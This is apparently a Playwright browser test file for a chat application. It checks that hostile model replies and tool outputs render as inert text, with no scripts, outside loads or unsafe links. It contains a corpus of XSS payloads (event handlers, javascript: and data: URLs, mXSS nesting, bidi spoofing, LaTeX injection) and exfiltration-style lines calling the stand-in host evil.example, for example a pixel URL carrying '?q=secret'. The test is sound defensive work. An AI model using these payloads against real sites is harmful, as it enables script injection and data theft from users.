"""A model's reply is hostile: what tries to run or load something is shown as text."""

from __future__ import annotations

from playwright.sync_api import expect

from chat.models import Message
from tenants.db import entered
from tenants.models import Tenant
from tests.browser.site import Site
from tests.browser.states import make_states
from tests.provider import Answer, Provider

EVIL = "https://evil.example"
CORPUS = (
    # scripts
    "<script>document.title = 'taken'</script>",
    "<img src=x onerror=alert(1)><svg onload=alert(2)><body onload=alert(3)>",
    "<svg><animate onbegin=alert(4) attributeName=x></svg>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(5)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(6)>'>",
    "<iframe srcdoc='<script>parent.alert(7)</script>'></iframe>",
    "<details open ontoggle=alert(8)><a href=x id=message name=composer>",
    '```"><img src=x onerror=alert(9)>\ncode\n```',
    "`</code><script>alert(10)</script>`",
    # links
    "[go](javascript:alert(11)) [go](JaVa\tScRiPt:alert(12)) [go](&#106;avascript:x)",
    "[go](data:text/html,<script>alert(13)</script>) [go](vbscript:x) <javascript:x>",
    "[a]: javascript:alert(14)\n\n[a] [go](//evil.example/a 'x\" onclick=alert(15)')",
    # images and styles
    f"![pixel]({EVIL}/pixel.png?q=secret) ![p][i]\n\n[i]: {EVIL}/other.png",
    f"<style>@import url({EVIL}/a.css); * {{ background: url({EVIL}/b) }}</style>",
    f"<link rel=stylesheet href={EVIL}/c.css><meta http-equiv=refresh content=0>",
    f"<p style='position:fixed;inset:0;background:url({EVIL}/d)'>cover</p>",
    f"<video src={EVIL}/e poster={EVIL}/f><object data={EVIL}/g><embed src={EVIL}/h>",
    f"<form action={EVIL}><button formaction={EVIL}>send</button></form>",
    f"<base href={EVIL}/>",
    # names that turn round or look like others
    "[https://bank.example](https://evil.example/\u202emoc.knab)",
    "\u202ereversed\u2066 \u200bzero\ufeff \u0430pple.com \ud7ff \x0b",
    "| a |\n|--|\n| <img src=x onerror=alert(16)> |",
    # formulas
    r"$\text{<img src=x onerror=alert(17)>}$ $\href{javascript:alert(18)}{x}$",
    r"$$\color{red;background:url(//evil.example/i)}{x} \style{position:fixed}{y}$$",
    r"$\mathrm{</mi><script>alert(19)</script>}$ $\class{composer}{x} \cssId{a}{y}$",
    r"\(\text{</mtext></math><style>*{display:none}</style>}\) $\eqref{javascript:x}$",
    r"$$\begin{array}{c}\text{<annotation-xml encoding=text/html><img src=x>}"
    r"\end{array}$$",
)
TOOL = '"><script>alert(20)</script><img src=x onerror=alert(21)>\u202etxt.exe'


def test_a_hostile_tool_runs_nothing_and_loads_nothing(
    site: Site, acme: Tenant
) -> None:
    made = make_states(acme)["tools"]
    with entered(acme.scope):
        reply = Message.objects.get(conversation=made, role="assistant")
        for part in reply.parts:
            if "output" in part:
                part |= {"type": f"tool-{TOOL}", "input": TOOL, "output": TOOL}
            elif "text" in part:
                part["text"] = TOOL
        reply.save()
    with site.page() as page:
        asked: list[str] = []
        page.on("request", lambda request: asked.append(request.url))
        page.on("dialog", lambda dialog: asked.append(dialog.message))
        page.goto(f"/c/{made.pk}")
        expect(page.locator(".tool").first).to_contain_text("<script>alert(20)")
        expect(page.locator(".reply :is(script, img)")).to_have_count(0)
        assert [url for url in asked if not url.startswith(site.url)] == []


def test_a_hostile_reply_runs_nothing_and_loads_nothing(
    site: Site, provider: Provider
) -> None:
    provider.enqueue(Answer(pieces=("\n\n".join(CORPUS), "\n\nEnd."), pace=5))
    with site.page() as page:
        asked: list[str] = []
        page.on("request", lambda request: asked.append(request.url))
        page.on("dialog", lambda dialog: asked.append(dialog.message))
        for _ in ("as it grows", "as it was stored"):
            expect_nothing = page.locator(
                "[data-reply] :is(img, script, style, link, iframe, form, svg, video,"
                " object, embed, base, meta, [style], [id], [name])"
            )
            if page.url == "about:blank":
                page.goto("/")
                page.get_by_label("Message", exact=True).fill("Attack")
                page.keyboard.press("Enter")
                status = page.get_by_role("status")
                expect(status).to_have_text("Reply complete")
            else:
                page.reload()
            reply = page.locator("[data-reply]")
            expect(reply).to_contain_text("document.title = 'taken'")
            expect(reply).to_contain_text("End.")
            expect(expect_nothing).to_have_count(0)
            hooks = reply.evaluate(
                "(root) => [...root.querySelectorAll('*')].flatMap((one) =>"
                " one.getAttributeNames()).filter((name) => /^on/.test(name)).length"
            )
            assert hooks == 0
            targets = reply.locator("a").evaluate_all("(all) => all.map((a) => a.href)")
            assert all(
                url.startswith(("https:", "http:", "mailto:")) for url in targets
            )
        assert [url for url in asked if not url.startswith(site.url)] == []
        assert page.title().startswith("Attack")
